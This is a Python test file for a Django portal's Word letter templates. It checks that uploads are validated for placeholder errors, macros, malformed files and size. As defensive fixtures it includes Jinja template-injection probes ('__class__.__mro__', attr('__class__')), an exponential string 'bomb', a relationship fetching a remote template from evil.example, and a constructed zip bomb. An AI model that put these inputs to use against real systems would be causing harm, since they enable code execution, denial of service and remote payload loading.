"""Word templates: what is refused, with its name and place, and what is filled in."""

import io
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import docx
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.translation import override

from accounts.models import Organisation, User
from papers.docx.filling import filled
from papers.models import LetterTemplate
from papers.services.templates import DEFAULTS, PLACEHOLDERS, example_of, problems_of, template_for

KINDS = list(DEFAULTS)
BOMB = "{% for a in facts %}{{ 'a' * 10 ** 9 }}{% endfor %}"


def template(*paragraphs: str, header: str = "") -> bytes:
    word = docx.Document()
    for text in paragraphs:
        word.add_paragraph(text)
    if header:
        word.sections[0].header.paragraphs[0].text = header
    stream = io.BytesIO()
    word.save(stream)
    return stream.getvalue()


def problems(*paragraphs: str, header: str = "", kind: str = "paper") -> list[str]:
    with override("en"):
        return problems_of(template(*paragraphs, header=header), kind)


def repacked(content: bytes, added: dict[str, bytes]) -> bytes:
    """The file with parts added or replaced."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w") as new:
        for part in old.infolist():
            if part.filename not in added:
                new.writestr(part.filename, old.read(part))
        for name, data in added.items():
            new.writestr(name, data)
    return stream.getvalue()


@pytest.mark.parametrize("kind", KINDS)
def test_the_portals_own_templates_have_no_flaw(kind: str) -> None:
    assert problems_of(DEFAULTS[kind](), kind) == []


@pytest.mark.parametrize("kind", KINDS)
def test_every_placeholder_is_documented(kind: str) -> None:
    def names(schema: Any) -> Iterator[str]:
        for name, below in schema.items():
            yield name
            yield from names(below) if isinstance(below, dict) else ()
            yield from names(below[0]) if isinstance(below, list) else ()

    with open("docs/papers.md", encoding="utf-8") as page:
        text = page.read()
    assert not [name for name in names(PLACEHOLDERS[kind]) if f"{name}`" not in text]


@pytest.mark.parametrize(
    ("paragraphs", "words"),
    [
        (("", "{{ titel }}"), "Paragraph 2: there is no placeholder “titel”"),
        (("{{ words.page }}",), "there is no placeholder “words.page”"),
        (
            ("{%p for fact in facts %}", "{{ fact.value }}", "{%p endfor %}"),
            "Paragraph 2: there is no placeholder “fact.value”",
        ),
        (("{{ fact.name }}",), "there is no placeholder “fact.name”"),
        (("{{ title",), "Paragraph 1: “{{ title” is not written as a placeholder"),
        (("{{ title + }}",), "is not written as a placeholder"),
        (("{%p for fact in facts %}", "x"), "has no end"),
        (("{%p endfor %}",), "ends what has not begun"),
        (("{% include 'x' %}",), "does more than a template may"),
        (("{% set a = 1 %}",), "does more than a template may"),
        (("{{ title.upper() }}",), "does more than a template may"),
        (("{{ title|attr('__class__') }}",), "does more than a template may"),
        (("{{ ''.__class__.__mro__ }}",), "does more than a template may|there is no placeholder"),
        ((BOMB,), "does more than a template may"),
        (("{% for a in range(9) %}{% endfor %}",), "does more than a template may"),
    ],
)
def test_a_flaw_is_named_with_its_place(paragraphs: tuple[str, ...], words: str) -> None:
    found = " ".join(problems(*paragraphs))
    assert any(each in found for each in words.split("|")), found


def test_flaws_in_headers_are_found_too() -> None:
    assert problems(header="{{ nothing }}") == [
        "Header, paragraph 1: there is no placeholder “nothing”. See the list of them."
    ]


def test_every_flaw_is_told_at_once() -> None:
    assert len(problems("{{ a }}", "{{ b }}", "{{ c }}")) == 3


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/a.xml"]
)
def test_macros_are_refused(name: str) -> None:
    with override("en"):
        assert "macros" in problems_of(repacked(template(), {name: b"x"}), "paper")[0]


def test_a_document_that_calls_itself_macro_enabled_is_refused() -> None:
    content = template()
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        kinds = packed.read("[Content_Types].xml")
    changed = kinds.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    with override("en"):
        assert "macros" in problems_of(repacked(content, {"[Content_Types].xml": changed}), "paper")[0]


def test_a_template_that_fetches_something_is_refused() -> None:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    with override("en"):
        found = problems_of(repacked(template(), {"word/_rels/settings.xml.rels": relation}), "paper")
    assert "fetches something from elsewhere" in found[0]


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7", b"PK\x03\x04 broken", template()[:-400]])
def test_what_is_no_word_document_is_refused(content: bytes) -> None:
    with override("en"):
        assert "no Word document" in problems_of(content, "paper")[0]


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b"0" * 60 * 1024 * 1024)
    with override("en"):
        assert "too large" in problems_of(stream.getvalue(), "paper")[0]


def test_values_are_never_read_as_placeholders() -> None:
    context = example_of(PLACEHOLDERS["paper"]) | {"title": "{{ kind }} {% for %} <w:b/>"}
    word = filled(template("{{ title }}"), context)
    assert word.paragraphs[0].text == "{{ kind }} {% for %} <w:b/>"


@pytest.mark.django_db
def test_an_administrator_replaces_a_template(client_of: Callable[[str], Client]) -> None:
    browser = client_of("administrator")
    asked = {"kind": "paper", "is_active": "on"}
    broken = SimpleUploadedFile("a.docx", template("{{ titel }}"))
    page = browser.post("/en/admin/papers/lettertemplate/add/", asked | {"file": broken}).content.decode()
    assert "there is no placeholder “titel”" in page
    assert not LetterTemplate.objects.exists()
    good = SimpleUploadedFile("a.docx", template("Akimat: {{ title }}", "{{ body }}"))
    browser.post("/en/admin/papers/lettertemplate/add/", asked | {"file": good})
    assert b"Akimat" in zipfile.ZipFile(LetterTemplate.objects.get().file).read("word/document.xml")


@pytest.mark.django_db
def test_the_portals_own_template_can_be_downloaded(client_of: Callable[[str], Client]) -> None:
    response = client_of("administrator").get("/en/admin/papers/lettertemplate/default/reply/")
    assert problems_of(response.content, "reply") == []
    assert client_of("deputy").get("/en/admin/papers/lettertemplate/default/reply/").status_code == 302


@pytest.mark.django_db
def test_an_organisation_has_a_template_of_its_own(user: Callable[[str], User]) -> None:
    akimat = Organisation.objects.get(code="demo-akimat")
    for organisation, text in ((None, "everybody"), (akimat, "akimat")):
        kept = LetterTemplate(kind="paper", organisation=organisation, sha256="0" * 64)
        kept.file.save("a.docx", ContentFile(template(text)))
        kept.save()
    own = docx.Document(io.BytesIO(template_for("paper", user("almaty.analyst"))))
    others = docx.Document(io.BytesIO(template_for("paper", user("analyst"))))
    assert (own.paragraphs[0].text, others.paragraphs[0].text) == ("akimat", "everybody")
